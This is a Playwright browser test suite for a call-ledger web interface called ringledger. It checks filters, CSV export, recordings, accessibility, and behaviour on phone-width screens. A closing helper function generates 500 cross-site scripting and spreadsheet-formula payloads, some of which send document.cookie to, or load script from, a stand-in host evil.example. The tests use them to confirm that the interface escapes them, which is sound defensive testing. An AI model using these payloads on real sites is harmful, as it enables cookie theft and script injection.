import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { until } from '../support/until.ts';
import { openBrowser, signIn, type Browser } from './browser.ts';
import { startBrowserTests } from './browser-tests.ts';
import { adminPassword, supervisorPassword, type SeededService } from './seeded-service.ts';

const screens = [
  'live',
  'calls',
  'missed',
  'overview',
  'contacts',
  'leads',
  'tasks',
  'deliveries',
  'completeness',
  'routing',
  'dialplan',
  'hooks',
  'health',
  'staff',
  'people',
  'settings',
  'settings?section=http',
  'settings?way=text',
  'setup',
];

describe('the web interface in a browser', function () {
  this.timeout(60_000);
  let service: SeededService;
  let page: Page;
  const { open, axeFaults } = startBrowserTests((opened) => ({ service, page } = opened));
  const settled = () => page.getByText('Loading …').first().waitFor({ state: 'hidden' });

  it('shows the ledger with one row for each call, and below a row everything about it', async () => {
    await open('calls');
    await page.locator('tr.line').nth(49).waitFor();
    await page.getByRole('button', { name: 'Show more' }).click();
    await page.locator('tr.line').nth(99).waitFor();
    await open('calls?result=answered');
    const row = page.locator('tr.line').first();
    await row.getByRole('button').focus();
    await page.keyboard.press('Enter');
    await page.locator('.conversation .timeline rect.talk').first().waitFor();
    await page.locator('.delivery').first().getByText('Delivered').waitFor();
    await page.getByText('Events of the phone system').click();
    await page.locator('.events tbody tr').nth(2).waitFor();
  });

  it('loads the first page with little, from here alone, and shows it at once', async () => {
    const fresh = await openBrowser();
    try {
      const first = await fresh.newPage();
      await signIn(first, { url: service.url, name: 'admin', password: adminPassword });
      const origins = new Set<string>();
      first.on('request', (request) => origins.add(new URL(request.url()).origin));
      await first.goto(`${service.url}/ui/calls`);
      await first.locator('tr.line').first().waitFor();
      const measured = (await first.evaluate(`(() => {
        const files = performance.getEntriesByType('resource').filter(({ name }) => name.includes('/ui/'));
        const paint = performance.getEntriesByName('first-contentful-paint')[0];
        return { bytes: files.reduce((sum, file) => sum + file.encodedBodySize, 0), paintMs: paint.startTime };
      })()`)) as { bytes: number; paintMs: number };
      assert.deepEqual([...origins], [service.url]);
      assert.ok(measured.bytes > 10_000 && measured.bytes < 60_000, JSON.stringify(measured));
      assert.ok(measured.paintMs < 1_000, JSON.stringify(measured));
    } finally {
      await fresh.close();
    }
  });

  it('keeps filters in the address and for the next visit', async () => {
    await open('calls');
    await page.getByLabel('Result').selectOption('busy');
    await page.waitForURL(/result=busy/);
    await until(async () => {
      const words = await page.locator('tr.line .badge').allTextContents();
      return words.length > 0 && words.every((word) => word === 'Busy');
    });
    // Contacts come into memory a few seconds after they were written down.
    await until(async () => {
      const found = (await (await service.ask('calls?name=nikitina')).json()) as { items: object[] };
      return found.items.length > 0;
    });
    await page.getByLabel('Result').selectOption('');
    await page.getByLabel('Client name').fill('nikitina');
    await page.getByLabel('Client name').press('Enter');
    await until(async () => {
      const names = await page.locator('.client').allTextContents();
      return names.length > 0 && names.every((name) => name.startsWith('Olga Nikitina'));
    });
    await page.getByLabel('Client name').fill('');
    await page.getByLabel('Result').selectOption('busy');
    await open('live');
    await page.getByRole('link', { name: 'Calls', exact: true }).click();
    await page.waitForURL(/result=busy/);
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.waitForURL(/\/ui\/calls$/);
  });

  it('exports what the filters show, without formulas', async () => {
    await open('calls?result=busy');
    const link = await page.getByRole('link', { name: 'Export CSV' }).getAttribute('href');
    const text = (await page.evaluate(`fetch(${JSON.stringify(link)}).then((answer) => answer.text())`)) as string;
    const lines = text.trim().split('\r\n');
    assert.ok(lines.length > 10);
    assert.ok(lines.slice(1).every((line) => line.includes(',busy,')));
    assert.ok(lines.some((line) => line.includes(',+7916')));
  });

  it('plays the recording of a call from this server, whatever the public address is, and notes who listened', async () => {
    const items = [
      {
        id: 'abc',
        uniqueId: null,
        state: 'ready',
        reason: null,
        durationMs: 65_000,
        link: 'https://pbx.example/r/abc?s=1',
      },
    ];
    await page.route('**/api/v1/calls/**/recordings', (route) => route.fulfill({ json: { items } }));
    await page.route('**/api/v1/recordings/abc', (route) =>
      route.fulfill({
        json: {
          ...items[0],
          peaks: [
            [0, 120, 255],
            [10, 20, 30],
          ],
        },
      }),
    );
    const played = page.waitForRequest('**/recordings/played');
    await open('calls?result=answered');
    await page.locator('tr.line').first().click();
    const sound = page.locator('audio');
    await sound.waitFor();
    assert.equal(await sound.getAttribute('src'), '/r/abc?s=1');
    await page.locator('svg.wave path').nth(1).waitFor({ state: 'attached' });
    await page.getByRole('button', { name: '1.5×' }).click();
    assert.equal(await page.evaluate(`document.querySelector('audio').playbackRate`), 1.5);
    await page.evaluate(`document.querySelector('audio').dispatchEvent(new Event('play'))`);
    assert.equal((await played).method(), 'POST');
    await page.unroute('**/api/v1/calls/**/recordings');
    await page.unroute('**/api/v1/recordings/abc');
  });

  it('shows calls of now as they come', async () => {
    await open('live');
    await page.getByText('no calls right now').waitFor();
    service.startCall();
    const tile = page.locator('.tile');
    await tile.first().waitFor();
    await tile.first().getByText('Ivan Petrov').waitFor();
  });

  it('tells why a delivery was refused and sends it again', async () => {
    await open('deliveries');
    const rows = page.locator('tbody tr.line');
    await rows.nth(3).waitFor();
    await rows.first().getByText('The contact is locked by another user').waitFor();
    await rows.first().getByRole('button', { name: 'Send again' }).click();
    await until(async () => (await rows.count()) === 3);
    await page.getByRole('button', { name: 'Pause' }).click();
    await page.getByText('Paused: paused in the web interface').waitFor();
    await page.getByRole('button', { name: 'Resume' }).click();
    await page.getByRole('button', { name: 'Pause' }).waitFor();
  });

  it('compares day by day what the PBX had with what the CRM has', async () => {
    const standing = async (state: string) => {
      const answer = await service.ask(`deliveries?state=${state}&kind=conversation&limit=500`);
      return ((await answer.json()) as { items: object[] }).items.length;
    };
    // What an earlier test sent again.
    await until(async () => (await standing('pending')) + (await standing('leased')) === 0);
    await open('completeness');
    await page.locator('tbody tr').nth(3).waitFor();
    // Whatever the time of the day: the oldest and the newest day may have little, and those between are whole.
    const days = await page
      .locator('tbody tr')
      .evaluateAll((rows) => rows.map((row) => [...row.querySelectorAll('td')].map((cell) => cell.textContent ?? '')));
    const sums = [3, 4, 5, 6, 7, 8].map((column) => days.reduce((sum, day) => sum + Number(day[column]), 0));
    const [registered, delivered, pending, rejected, skipped, missing] = sums as [number, ...number[]];
    const words = days.map((day) => day.join(' | ')).join('\n');
    assert.ok(
      days.slice(1, -1).every((day) => Number(day[3]) > 20 && Number(day[4]) > 20),
      words,
    );
    assert.equal(registered, delivered! + pending! + rejected! + skipped! + missing!, words);
    assert.deepEqual([rejected, missing], [await standing('rejected'), 1], words);
    assert.ok(rejected! > 0 && delivered === (await standing('delivered')), words);
    for (const day of days) {
      const lacking = Number(day[6]) + Number(day[8]);
      if (lacking > 0) assert.match(day[2]!, new RegExp(`^${lacking} lacking$`), words);
      else assert.doesNotMatch(day[2]!, /lacking/, words);
    }
  });

  it('lists clients who were not called back', async () => {
    await open('missed');
    await page.locator('tbody tr.line').first().waitFor();
    assert.equal(await page.getByRole('button', { name: 'Call back' }).first().isDisabled(), true);
    await page.getByRole('button', { name: 'I will call' }).first().click();
    await page.locator('tbody tr.line').first().getByText('admin').waitFor();
    await page.getByLabel('My extension').fill('101');
    await page.getByLabel('My extension').press('Enter');
    await until(async () => !(await page.getByRole('button', { name: 'Call back' }).first().isDisabled()));
  });

  it('adds and finds contacts, and finishes tasks', async () => {
    await open('contacts');
    await page.getByRole('button', { name: 'Add a contact' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Name').fill('Zoya New');
    await dialog.getByLabel('Numbers').fill('8 916 555-44-33');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await page.getByLabel('Name, company or number').fill('zoya');
    await page.getByLabel('Name, company or number').press('Enter');
    await page.getByText('+7 916 555-44-33').waitFor();
    await open('tasks');
    const rows = page.locator('tbody tr.line');
    const count = await rows
      .count()
      .then(async (found) => (found > 0 ? found : (await rows.first().waitFor(), rows.count())));
    await page.getByRole('button', { name: 'Done' }).first().click();
    await until(async () => (await rows.count()) === count - 1);
  });

  it('shows who would get a call, step by step, and the dialplan that would be written', async () => {
    await open('routing?number=8%20916%20111-00-02');
    await page.getByText('Anna Orlova · 101 rings').waitFor();
    assert.ok((await page.locator('tbody tr').count()) >= 3);
    await open('dialplan');
    await page.locator('pre .added').first().waitFor();
    await page.getByRole('button', { name: 'inbound.conf' }).click();
    await page.getByText('[ringledger-').first().waitFor();
  });

  it('tells of hooks how they do and what went wrong last', async () => {
    await service.ask('lookup?number=%2B79161110002');
    await open('hooks');
    const row = page.locator('tbody tr.line').first();
    await row.getByText('customize_autodistribution').waitFor();
    await page.locator('.findings .words', { hasText: 'no such shift' }).first().waitFor();
  });

  it('speaks Russian at a word and keeps to the zone of the installation', async () => {
    await open('calls');
    await page.getByLabel('Language').selectOption('ru');
    await page.getByRole('heading', { name: 'Журнал' }).waitFor();
    await page.getByLabel('Язык').selectOption('en');
    const shown = await page.locator('tr.line td.number').first().textContent();
    const { items } = (await (await service.ask('calls?limit=1')).json()) as { items: { startedAt: string }[] };
    const moscow = new Intl.DateTimeFormat('en-GB', { timeZone: 'Europe/Moscow', hour: '2-digit', minute: '2-digit' });
    assert.equal(shown, moscow.format(new Date(items[0]!.startedAt)));
  });

  it('offers supervisors only their screens', async () => {
    const other = await openBrowser();
    try {
      const theirs = await other.newPage();
      await signIn(theirs, { url: service.url, name: 'vera', password: supervisorPassword });
      const links = await theirs.locator('nav a').allTextContents();
      assert.deepEqual(
        links.map((link) => link.trim()),
        ['Live', 'Calls', 'Missed', 'Overview', 'Contacts', 'Leads', 'Tasks'],
      );
    } finally {
      await other.close();
    }
  });

  it('shows nothing serious to axe on any screen, light and dark, wide and narrow', async () => {
    const faults: string[] = [];
    for (const [theme, width] of [
      ['light', 1280],
      ['dark', 390],
    ] as const) {
      await page.setViewportSize({ width, height: 860 });
      await page.evaluate(`localStorage.setItem('ringledger.theme', '${theme}')`);
      for (const screen of screens) {
        await open(screen);
        await settled();
        if (screen === 'calls') await page.locator('tr.line').nth(1).click();
        faults.push(...(await axeFaults()).map((fault) => `${theme} ${screen}: ${fault}`));
      }
    }
    await page.setViewportSize({ width: 1280, height: 860 });
    assert.deepEqual(faults, []);
  });

  it('cuts no table off on a small desk, in the longer language', async () => {
    await page.setViewportSize({ width: 1024, height: 768 });
    await page.evaluate(`localStorage.setItem('ringledger.language', 'ru')`);
    const cut: string[] = [];
    for (const screen of screens) {
      await open(screen);
      await page.getByText('Загрузка').first().waitFor({ state: 'hidden' });
      // What scrolls by itself shows so; a sheet that is wider than its place hides its last columns.
      const tables = await page
        .locator('.sheet table:not(.scroll table)')
        .evaluateAll((all) => all.map((table) => table.scrollWidth - table.closest('.sheet')!.clientWidth));
      if (tables.some((more) => more > 0)) cut.push(`${screen}: ${tables.join(', ')}`);
    }
    await page.evaluate(`localStorage.setItem('ringledger.language', 'en')`);
    await page.setViewportSize({ width: 1280, height: 860 });
    assert.deepEqual(cut, []);
  });

  it('tells the health of the installation in Russian, with times by the clocks of the installation', async () => {
    await service.ask('lookup?number=%2B79161110002');
    await page.evaluate(`localStorage.setItem('ringledger.language', 'ru')`);
    await open('health');
    await page.getByText('На 127.0.0.1:4573 никто не отвечает').waitFor();
    await page.getByText('база данных').waitFor();
    const told = await page.locator('.words > .quiet').allTextContents();
    assert.ok(told.some((text) => text.includes('последний сбой')));
    for (const text of told) assert.doesNotMatch(text, /\dT\d\d:\d\d/);
    await page.evaluate(`localStorage.setItem('ringledger.language', 'en')`);
  });

  it('never scrolls sideways on a phone', async () => {
    await page.setViewportSize({ width: 360, height: 740 });
    const wide: string[] = [];
    for (const screen of screens) {
      await open(screen);
      await settled();
      if (await page.evaluate('document.documentElement.scrollWidth > innerWidth')) wide.push(screen);
    }
    await page.setViewportSize({ width: 1280, height: 860 });
    assert.deepEqual(wide, []);
  });
});

describe('the web interface against hostile texts', function () {
  this.timeout(60_000);
  const hostile = payloads();
  let service: SeededService;
  let browser: Browser;
  let page: Page;
  startBrowserTests((opened) => ({ service, browser, page } = opened), { service: { hostile } });

  it('shows 500 of them as the texts they are: no dialog, no script, no violation of the policy', async () => {
    const showAll = async (rows: number) => {
      await page.locator('tr.line').first().waitFor();
      while ((await page.locator('tr.line').count()) < rows) {
        const before = await page.locator('tr.line').count();
        await page.getByRole('button', { name: 'Show more' }).click();
        await until(async () => (await page.locator('tr.line').count()) > before);
      }
    };
    await page.goto(`${service.url}/ui/calls`);
    await showAll(500);
    const shown = new Set(await page.locator('.client > span:first-child').allTextContents());
    for (const text of hostile) assert.ok(shown.has(text), text);
    await page.locator('tr.line').first().click();
    await page.locator('.delivery').first().waitFor();
    await page.locator('.delivery button').first().click();
    await page.locator('.attempts').waitFor();
    await page.goto(`${service.url}/ui/deliveries`);
    await showAll(450);
    await page.goto(`${service.url}/ui/contacts`);
    await showAll(500);
    for (const [screen, rows] of [
      ['missed', 300],
      ['tasks', 100],
      ['leads', 100],
    ] as const) {
      await page.goto(`${service.url}/ui/${screen}`);
      await showAll(rows);
    }
    await page.goto(`${service.url}/ui/overview`);
    await page.waitForLoadState('networkidle');
    assert.equal(await page.evaluate('globalThis.pwned'), undefined);
    assert.equal(await page.locator('#page script, #page iframe, #page object, #page img').count(), 0);
    assert.deepEqual(browser.alarms, []);
  });

  it('writes them into CSV so that no spreadsheet calculates', async () => {
    const text = await (await service.ask('calls.csv')).text();
    const cells = text.split(/[,\r\n]/).map((cell) => cell.replace(/^"/, ''));
    for (const cell of cells) assert.doesNotMatch(cell, /^[=@\t]|^[-+](?!\d+$)/, cell);
    assert.ok(text.includes("'=HYPERLINK"));
  });
});

describe('the dictionaries', () => {
  it('hold the same words in each language, with the same places to fill', () => {
    const read = (language: string) =>
      JSON.parse(readFileSync(new URL(`../../src/web/ui/i18n/${language}.json`, import.meta.url), 'utf8')) as Record<
        string,
        string
      >;
    const [english, russian] = [read('en'), read('ru')];
    const places = (text: string) => [...text.matchAll(/\{\w+\}/g)].map(([place]) => place).sort();
    assert.deepEqual(Object.keys(russian), Object.keys(english));
    for (const [key, text] of Object.entries(english)) assert.deepEqual(places(russian[key]!), places(text), key);
  });
});

/** Five hundred different texts that would run, load or break something if any place took them for more than text. */
function payloads(): string[] {
  const run = [
    `globalThis.pwned=1`,
    `alert(1)`,
    `import('//evil.example/x.js')`,
    `fetch('//evil.example/'+document.cookie)`,
    `confirm(2)`,
  ];
  const shapes: ((script: string) => string)[] = [
    (js) => `<script>${js}</script>`,
    (js) => `<img src=x onerror="${js}">`,
    (js) => `<svg/onload=${js}>`,
    (js) => `"><script>${js}</script>`,
    (js) => `'"><img src=x onerror=${js}>`,
    (js) => `</td></table><script>${js}</script>`,
    (js) => `<iframe srcdoc="<script>${js}</script>">`,
    (js) => `javascript:${js}`,
    (js) => `<a href="javascript:${js}">call me</a>`,
    (js) => `<details open ontoggle=${js}>`,
    (js) => `<input autofocus onfocus=${js}>`,
    (js) => `<style>@import 'javascript:${js}'</style>`,
    (js) => `<math><mtext></mtext><script>${js}</script></math>`,
    (js) => `<object data="javascript:${js}">`,
    (js) => `<body onload=${js}>`,
    (js) => `\${${js}}{{constructor.constructor('${js}')()}}`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js) => `--><!-- ><img src=x onerror=${js}>`,
    (js) => `<template><script>${js}</script></template>`,
    (js) => `=HYPERLINK("//evil.example";"${js}")`,
  ];
  const all = shapes.flatMap((shape) => run.map(shape));
  return Array.from(
    { length: 500 },
    (_, index) => `${all[index % all.length]!}${index < all.length ? '' : ` ${index}`}`,
  );
}
